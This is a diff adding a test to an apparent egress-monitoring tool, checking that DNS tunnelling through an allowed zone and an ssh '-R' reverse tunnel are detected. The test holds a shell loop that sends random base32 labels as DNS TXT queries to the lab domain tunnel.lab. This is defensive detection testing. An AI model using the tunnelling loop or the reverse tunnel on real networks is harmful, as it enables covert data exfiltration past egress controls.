@@ -302,3 +302,22 @@ def test_each_flow_carries_its_process_and_ssh_minus_r_is_found_by_it(lab):
     (found,) = [f for f in flow["findings"] if f["id"] == "reverse-ssh-tunnel"]
     assert found["evidence"]["source"] == "process"
     assert found["evidence"]["cmdline_flag"] == "-R 9000:127.0.0.1:8080"
+
+
+def test_the_task_dns_is_recorded_and_a_tunnel_through_an_allowed_zone_found(lab):
+    lab.start_dns({"pypi.lab": "203.0.113.10"})
+    purpose = lab.dir / "zone.toml"
+    purpose.write_text('version = 1\npurpose = "x"\ntask = "lab-run"\n'
+                       '[[allow]]\nhost = "*.tunnel.lab"\n')
+    script = ("for i in $(seq 1 40); do "
+              "l=$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z); "
+              "dig +short +tries=1 +time=1 TXT $l.t.tunnel.lab >/dev/null; done")
+    done = lab.host(EGRESS, "run", "--task", "lab-run", "--purpose", purpose, "--db",
+                    lab.dir / "egress.db", "--", "sh", "-c", script, timeout=90, check=False)
+    assert done.returncode == 0, done.stderr
+    records = stored(lab)
+    dns = [r for r in records if r.get("kind") == "flow" and r.get("app") == "dns"]
+    assert len(dns) >= 40 and all(r["verdict"] == "allow" for r in dns)
+    assert all(r["rule"].startswith("egress: the task's own resolver") for r in dns)
+    (tunnel,) = [r for r in records if r.get("event") == "dns-tunnel"]
+    assert tunnel["findings"][0]["evidence"]["domain"] == "tunnel.lab"
